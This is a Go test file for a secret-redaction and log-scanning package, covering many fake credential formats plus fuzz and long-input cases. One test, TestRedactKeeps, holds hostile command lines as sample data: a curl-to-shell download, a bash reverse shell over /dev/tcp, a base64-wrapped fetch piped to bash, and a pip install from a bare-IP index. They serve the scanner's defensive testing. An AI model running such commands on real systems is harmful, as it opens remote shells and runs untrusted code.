package hunt_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/weightwarden/weightwarden/internal/hunt"
)

func TestRedactHides(t *testing.T) {
	const (
		s   = "S3cr3tV4lue"
		hex = "9f86d081884c7d659a2feaa0c55ad015"
	)
	// Every %s is the secret. Nothing here is a real credential.
	tests := []struct{ name, secret, line string }{
		{"equals", s, "token=%s"},
		{"equals_upper", s, "HF_TOKEN=%s python train.py"},
		{"spaces_around", s, "password = %s"},
		{"colon", s, "api_key: %s"},
		{"arrow", s, "secret => %s"},
		{"walrus", s, "token := %s"},
		{"double_quoted", s, `TOKEN="%s"`},
		{"double_quoted_with_spaces", s, `password="a %s b"`},
		{"single_quoted", s, `password='a %s b'`},
		{"quotes_joined", s, `password="a"%s`},
		{"escaped_quote_inside", s, `password="a\" %s"`},
		{"unfinished_quote", s, `password="a %s`},
		{"json", s, `{"access_token": "%s", "n": 1}`},
		{"json_compact", s, `{"a":1,"client_secret":"%s","n":1}`},
		{"json_in_json", s, `{"body":"{\"token\": \"a %s b\"}"}`},
		{"json_in_json_in_json", s, `{\\\"token\\\": \\\"%s\\\"}`},
		{"yaml_key", s, "private_key: %s"},
		{"python_dict", s, "{'auth_token': '%s'}"},
		{"second_of_two", s, "token=abc password=%s"},
		{"second_of_two_joined", s, "token=abc;password=%s"},
		{"key_in_what_is_masked", s, "sk-abcdefghijtoken=%s"},
		{"flag", s, "cosign sign --key %s"},
		{"flag_equals", s, "login --password=%s"},
		{"flag_quoted", s, `login --password "%s x"`},
		{"flag_single_dash", s, "tool -token %s"},
		{"cosign_key", s, "COSIGN_KEY=%s"},
		{"cosign_key_env", s, "COSIGN_KEY=env://%s"},
		{"cosign_key_space", s, "export COSIGN_KEY %s"},
		{"cosign_password", s, "COSIGN_PASSWORD=%s cosign sign"},
		{"plain_words", s, "using token %s for login"},
		{"password_is", s, "the password is %s."},
		{"authorization", s, "Authorization: Bearer %s"},
		{"authorization_basic", s, "authorization: Basic %s="},
		{"authorization_unknown_scheme", s, "Authorization: AWS4-HMAC a b %s"},
		{"authorization_in_curl", s, `curl -H "Authorization: token %s" https://x`},
		{"authorization_json", s, `{"Authorization": "Bearer %s"}`},
		{"bearer", s, "with bearer %s"},
		{"cookie", s, "Cookie: a=1; b=%s; c=2"},
		{"set_cookie", s, "Set-Cookie: sid=%s"},
		{"api_key_header", s, "X-Api-Key: %s"},
		{"url_password", s, "git clone https://user:%s@host/x"},
		{"url_user", s, "pip install --index-url https://%s@host/simple x"},
		{"url_password_with_at", s, "https://user:a@%s@host/x"},
		{"url_query", s, "GET https://host/x?a=1&access_token=%s&b=2"},
		{"signed_url", s, "https://b.s3.amazonaws.com/k?X-Amz-Signature=%s"},
		{"sas", s, "https://x.blob.core.windows.net/c?sv=1&sig=%s"},
		{"pem", s, "-----BEGIN PRIVATE KEY-----MII%s-----END PRIVATE KEY-----"},
		{"pem_escaped", s, `"-----BEGIN EC PRIVATE KEY-----\nMII%s\n-----END EC PRIVATE KEY-----\n"`},
		{"pem_unfinished", s, "-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY----- %s"},
		{"pem_body", hex, "2026-11-01T10:00:00Z MIGHAgEAMBMGByqGSM49%sAgEGCCqGSM49AwEHBG0w"},
		{"aws", "IOSFODNN7EXAMPLE", "found AKIA%s in env"},
		{"github", hex, "remote said ghp_%s no"},
		{"github_fine", hex, "github_pat_11AA_%s"},
		{"gitlab", "aBcDeFgHiJkLmNoPqRsT", "glpat-%s"},
		{"slack", "1234-5678-abcdefg", "xoxb-%s"},
		{"hugging_face", "aBcDeFgHiJkLmNoPqRsTuVwX", "hf_%s"},
		{"openai", "proj-aBcDeFgHiJkL", "sk-%s"},
		{"google", "SyA1234567890abcdefghijkl", "AIza%s"},
		{"jwt", "zdWIiOiIxMjM0In0", "eyJhbGciOiJIUzI1NiJ9.eyJ%s.abc-_def"},
		{"npm", "aBcDeFgHiJkLmNoPqRsT", "npm_%s"},
		{"pypi", "AgEIcHlwaS5vcmcCJ", "pypi-%s"},
		{"long_hex_behind_key_word", hex, "the signing key has the value, as we see, %s"},
		{"long_base64_behind_key_word", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ0", "credentials came as %s here"},
		{"colours_inside", s, "tok\x1b[31men=\x1b[1m%s"},
		{"control_characters_inside_the_key", s, "to\x00ken\x07=%s"},
		{"unicode_before", s, "größe ✓ token=%s"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if strings.Count(tt.line, "%s") != 1 {
				t.Fatal("the row has no place for the secret")
			}
			got := hunt.Redact(strings.ReplaceAll(tt.line, "%s", tt.secret))
			if strings.Contains(got, tt.secret) || !strings.Contains(got, "[REDACTED]") {
				t.Errorf("shown: %s", got)
			}
		})
	}
}

// TestRedactKeeps: what is masked without need is evidence that nobody sees.
func TestRedactKeeps(t *testing.T) {
	for _, line := range []string{
		"RUN pip install torch==2.2.0 --index-url http://203.0.113.9/simple",
		"curl -fsSL http://203.0.113.7/s.sh | sh",
		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
		"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc= | base64 -d | bash",
		"sha256:9f86d081884c7d659a2feaa0c55ad0159f86d081884c7d659a2feaa0c55ad015 ok",
		"Author: A. Person <a.person@example.org>",
		"wget https://example.org/a/b@v1.2.tar.gz",
		"tokenizer.json loaded",
	} {
		if got := hunt.Redact(line); got != line {
			t.Errorf("%s\nbecame\n%s", line, got)
		}
	}
}

// TestSecretsBeyondTheWindow has secrets whose key is far from the match.
func TestSecretsBeyondTheWindow(t *testing.T) {
	for name, log := range map[string]string{
		"key_far_before":     "token=" + strings.Repeat("Zq7", 4000) + "base64" + strings.Repeat("Zq7", 4000),
		"key_out_of_buffer":  "secret=" + strings.Repeat("Zq7", 400_000) + "base64" + strings.Repeat("Zq7", 400_000),
		"url_ends_far_after": "base64 https://user:" + strings.Repeat("Zq7", 4000) + "@host/",
	} {
		t.Run(name, func(t *testing.T) {
			got, err := hunt.Scan(t.Context(), "log", strings.NewReader(log), hunt.Limits{})
			if err != nil || len(got.Findings) == 0 {
				t.Fatalf("%d findings, error %v", len(got.Findings), err)
			}
			for _, h := range got.Findings {
				if strings.Contains(h.Text, "Zq7") {
					t.Errorf("shown: %s", h.Text)
				}
			}
		})
	}
}

// FuzzScan: whatever surrounds it, a secret behind token= is never shown, and
// the line of its hit is right.
func FuzzScan(f *testing.F) {
	f.Add([]byte("a\nb "), []byte(" c\n"))
	f.Add([]byte(`{"auth": "`), []byte(`"}`))
	f.Add([]byte("curl https://u:p@h/ --key "), []byte(" base64 /dev/tcp/"))
	f.Add([]byte("-----BEGIN X-----\n\x1b["), []byte("\x1b]0;"))
	f.Add([]byte("sk-aaaaaaaaaa"), []byte("@"))
	f.Add([]byte("password='"), []byte("\xff\x00'"))
	f.Fuzz(func(t *testing.T, before, after []byte) {
		sum := sha256.Sum256(append(bytes.Clone(before), after...))
		secret := hex.EncodeToString(sum[:8])
		log := append(append(bytes.Clone(before), "token="+secret...), after...)
		got, err := hunt.Scan(t.Context(), "log", bytes.NewReader(log), hunt.Limits{Hits: 20})
		if err != nil {
			return
		}
		line, found := 1+bytes.Count(before, []byte{'\n'}), false
		for _, h := range got.Findings {
			if strings.Contains(h.Text, secret) {
				t.Errorf("shown: %q", h.Text)
			}
			if n := 1 + bytes.Count(log[:h.Offset], []byte{'\n'}); n != h.Line {
				t.Errorf("hit at %d is in line %d, not %d", h.Offset, n, h.Line)
			}
			found = found || h.Rule == "WW-HUNT-008" && h.Line == line
		}
		if !found && got.Suppressed == 0 {
			t.Errorf("no hit in line %d: %+v", line, got.Findings)
		}
	})
}
